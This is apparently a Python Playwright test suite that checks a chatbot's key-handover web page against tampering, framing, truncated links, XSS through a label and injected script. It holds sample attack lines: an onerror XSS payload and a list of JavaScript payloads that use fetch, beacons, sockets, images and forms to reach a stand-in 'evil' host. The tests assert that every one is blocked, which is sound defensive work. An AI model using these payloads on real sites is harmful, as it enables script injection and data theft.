"""Threats to the page in a real browser: changed keys and scripts, cut links, frames, injected code, scanners.

Everything is served by the real house; what lies between it and the browser changes what it can.
"""

import asyncio
import json
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager
from pathlib import Path

import pytest
from cryptography.hazmat.primitives.asymmetric import ec
from playwright.async_api import Browser, Page, Route

from chatbot.domain.links import b64url
from tests.browser.linkpage import hand_over, state, tab
from tests.support import skips
from tests.support.engines import ENGINES, plainhost
from tests.support.engines import tab as tabs
from tests.threats.house import House
from tests.web.weblink import public_bytes

pytestmark = pytest.mark.browser
LABEL = "<img src=x onerror=alert(1)>"
# Each would carry the secret away, or change the page into somebody else's.
ATTACKS = (
    "setTimeout('window.hurt = 1')",
    "document.body.innerHTML = '<b id=hurt>x</b>'",
    "document.createElement('script').src = '{evil}/x.js'",
    "fetch('{evil}/fetch').catch(() => 0)",
    "navigator.sendBeacon('{evil}/beacon', 'x')",
    "new WebSocket('{socket}/socket')",
    "new Image().src = '{evil}/image'",
    "HTMLFormElement.prototype.submit.call(Object.assign(document.forms[0], {{action: '{evil}/form'}}))",
)
WATCH = (
    "(window.blocked = [], document.addEventListener('securitypolicyviolation',"
    " (event) => window.blocked.push(event.effectiveDirective)), true)"
)


@asynccontextmanager
async def stranger(body: str = "") -> AsyncIterator[tuple[str, list[str]]]:
    """Serve one page of somebody else's on another origin, and note every request that reaches it."""
    seen: list[str] = []

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            seen.append((await reader.readuntil(b"\r\n\r\n")).decode())
            page = body.encode()
            head = f"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {len(page)}\r\nConnection: close\r\n\r\n"
            writer.write(head.encode() + page)
            await writer.drain()
        except (ConnectionError, asyncio.IncompleteReadError):
            pass
        finally:
            writer.close()

    server = await asyncio.start_server(serve, "127.0.0.1", 0)
    async with server:
        yield f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}", seen


async def test_04_a_scanner_that_runs_the_script_changes_nothing(home: House, browser: Browser) -> None:
    """Twenty visits with a whole browser leave the link open and no try spent; then it is used."""
    link = await home.link()
    async with tab(browser) as page:
        for _ in range(20):
            await page.goto("about:blank")
            await page.goto(link)
            await state(page, "ready")
        assert await home.state(link) == ("open", 0)
        await hand_over(page, *home.good)
        await state(page, "done")
    assert await home.accounts() == ["pending"]


async def test_08_a_public_key_swapped_on_the_way_is_noticed(home: House, browser: Browser) -> None:
    """Who can change the answer but not the link gets no form and no submission."""
    link = await home.link()
    sent: list[str] = []
    async with tab(browser) as page:

        async def swap(route: Route) -> None:
            answer = await route.fetch()
            other = b64url(public_bytes(ec.generate_private_key(ec.SECP256R1())))
            await route.fulfill(response=answer, body=json.dumps(await answer.json() | {"pk": other}))

        page.on("request", lambda request: sent.append(request.url))
        await page.route("**/api/open", swap)
        await page.goto(link)
        await state(page, "dead")
        assert "does not match" in await page.inner_text("#status")
        assert await page.locator("form, input, textarea").count() == 0
    assert not any("submit" in url for url in sent)
    assert await home.state(link) == ("open", 0)


async def test_09_a_cut_link_gives_no_form(home: House, browser: Browser) -> None:
    """Without the whole of the key's mark the page does not even ask for the link."""
    link = await home.link()
    front, mark, locale = link.rsplit(".", 2)
    async with tab(browser) as page:
        asked: list[str] = []
        page.on("request", lambda request: asked.append(request.url))
        for cut in (
            front,
            f"{front}.",
            f"{front}.{mark[:-1]}",
            f"{front}.{mark[:11]}.{locale}",
            link[: link.index("#") + 9],
        ):
            await page.goto("about:blank")
            await page.goto(cut)
            await state(page, "dead")
            assert await page.locator("form, input, textarea").count() == 0
        assert not any("/api/" in url for url in asked)


async def test_16_nobody_can_put_the_page_into_a_frame(home: House, browser: Browser) -> None:
    """A stranger's page that frames ours shows a blocked document, and no link is opened there."""
    link = await home.link()
    async with stranger(f"<iframe src='{link}'></iframe><p id=after>") as (evil, _):
        context = await browser.new_context()
        page = await context.new_page()
        asked: list[str] = []
        page.on("request", lambda request: asked.append(request.url))
        await page.goto(evil, wait_until="load")
        frame = page.frames[1]
        await frame.wait_for_load_state()
        assert await frame.locator("#status, form, input").count() == 0
        assert not any("/api/" in url for url in asked)
        await context.close()
    assert await home.state(link) == ("open", 0)


async def test_17_a_name_made_of_markup_stays_text(home: House, browser: Browser) -> None:
    """A label that is markup stands on the page letter by letter; no element comes of it."""
    await home.bot.type(f"/connect bitso {LABEL}")
    link = await home.link()
    async with tab(browser) as page:
        await page.goto(link)
        await state(page, "ready")
        assert (await page.inner_text("#label")).startswith("<img src=x onerror=")
        assert await page.locator("img, script:not([src])").count() == 0


@pytest.mark.parametrize("engine", ENGINES)
async def test_18_injected_code_carries_nothing_away(home: House, tmp_path: Path, engine: str) -> None:
    """In three engines: evaluated text, markup, scripts, calls, beacons, sockets, pictures and forms are all blocked."""
    found = ENGINES[engine].find() or skips.missing(engine)
    link = await home.link()
    async with (
        stranger() as (evil, seen),
        plainhost.proxy() as port,
        ENGINES[engine].run(found, tmp_path, port) as page,
    ):
        await page.go(link)
        await tabs.state(page, "ready")
        assert await page.run(WATCH)
        for attack in ATTACKS:
            code = attack.format(evil=evil, socket=evil.replace("http", "ws"))
            await page.run(f"(setTimeout(() => {{ {code} }}), true)")
            directive = await tabs.until(page, "window.blocked.pop()")
            assert directive.partition("-")[0] in {
                "script",
                "require",
                "connect",
                "img",
                "form",
                "default",
            }, attack
        assert await page.run("[typeof window.hurt, document.querySelectorAll('#hurt').length]") == [
            "undefined",
            0,
        ]
    assert seen == []


async def test_49_the_page_works_only_where_the_browser_calls_it_safe(home: House, browser: Browser) -> None:
    """Over plain http under a real name it says so, shows no form and asks for nothing; so it does in a frame."""
    link = await home.link()
    context = await browser.new_context()
    page = await context.new_page()
    await page.route("**/*", lambda route: _under_another_name(route, home))
    await page.goto(link.replace("localhost", plainhost.HOST))
    await state(page, "insecure")
    assert await page.locator("form, input, textarea").count() == 0
    assert await page.evaluate("[isSecureContext, typeof crypto.subtle]") == [False, "undefined"]
    await page.unroute_all()

    async def bare(route: Route) -> None:
        answer = await route.fetch()
        await route.fulfill(response=answer, headers={"content-type": answer.headers["content-type"]})

    await page.route("**/*", bare)
    await page.goto(f"{home.url}/healthz")
    frame = "url => void document.body.append(Object.assign(document.createElement('iframe'), { src: url }))"
    await page.evaluate(frame, link)
    await page.frame_locator("iframe").locator("#status[data-state=insecure]").wait_for()
    assert await page.frames[1].locator("form, input, textarea").count() == 0
    await context.close()
    assert await home.state(link) == ("open", 0)


async def _under_another_name(route: Route, home: House) -> None:
    """Answer for a name that is not ours to serve, as a proxy without https would."""
    url = route.request.url.replace(plainhost.HOST, "localhost")
    answer = await home.web.get(url)
    await route.fulfill(status=answer.status_code, headers=dict(answer.headers), body=answer.content)


async def test_51_a_changed_script_does_not_run(home: House, browser: Browser) -> None:
    """One byte changed on the way and the browser refuses it; the page has one script, and it is our own."""
    link = await home.link()
    async with tab(browser) as page:
        await page.goto(link)
        await state(page, "ready")
        assert await page.evaluate("[...document.scripts].map((one) => one.src)") == [f"{home.url}/key.js"]

    for tamper in (_flipped, _without_integrity):
        assert await _asked_with(tamper, browser, link) == 0


async def _asked_with(tamper: Callable[[Page], Awaitable[None]], browser: Browser, link: str) -> int:
    """Open a link while somebody changes what is served; count the calls, and see that no form comes."""
    context = await browser.new_context()
    page = await context.new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    await tamper(page)
    await page.goto(link)
    await page.wait_for_load_state("networkidle")
    assert await page.locator("form, input, textarea").count() == 0
    assert await page.get_attribute("#status", "data-state") == "loading"
    await context.close()
    return sum("/api/" in url for url in asked)


async def _flipped(page: Page) -> None:
    async def change(route: Route) -> None:
        answer = await route.fetch()
        await route.fulfill(response=answer, body=(await answer.text()).replace("submit", "submlt", 1))

    await page.route("**/key.js", change)


async def _without_integrity(page: Page) -> None:
    """Change the script and take its mark off the page: the policy in the headers still names ours."""
    await _flipped(page)

    async def change(route: Route) -> None:
        answer = await route.fetch()
        body = (await answer.text()).replace("integrity=", "data-was=")
        await route.fulfill(response=answer, body=body)

    await page.route("**/key", change)
